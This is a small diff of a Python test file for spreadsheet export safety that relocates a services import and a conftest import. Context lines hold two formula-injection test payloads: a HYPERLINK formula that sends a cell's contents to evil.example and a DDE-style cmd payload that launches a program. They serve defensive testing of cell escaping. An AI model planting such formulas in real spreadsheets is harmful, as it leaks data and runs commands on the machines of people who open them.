@@ -15,8 +15,8 @@ from openpyxl import load_workbook
 
 from authorities.models import Membership, Role
 from authorities.toolkit.csv_safety import FORMULA_STARTS, PLAIN_NUMBER, restore, safe_cell
-from indicators import services
 from indicators.models import AreaLevel, PeriodKind, Source
+from indicators.returns import services
 from tests.factories import (
     AuthorityFactory,
     NeighbourFactory,
@@ -25,7 +25,7 @@ from tests.factories import (
     annual,
     indicator,
 )
-from tests.returns.conftest import MONTH, make_user
+from tests.indicators.returns.conftest import MONTH, make_user
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
 HOSTILE_PLUS = "+cmd|' /C calc'!A0"
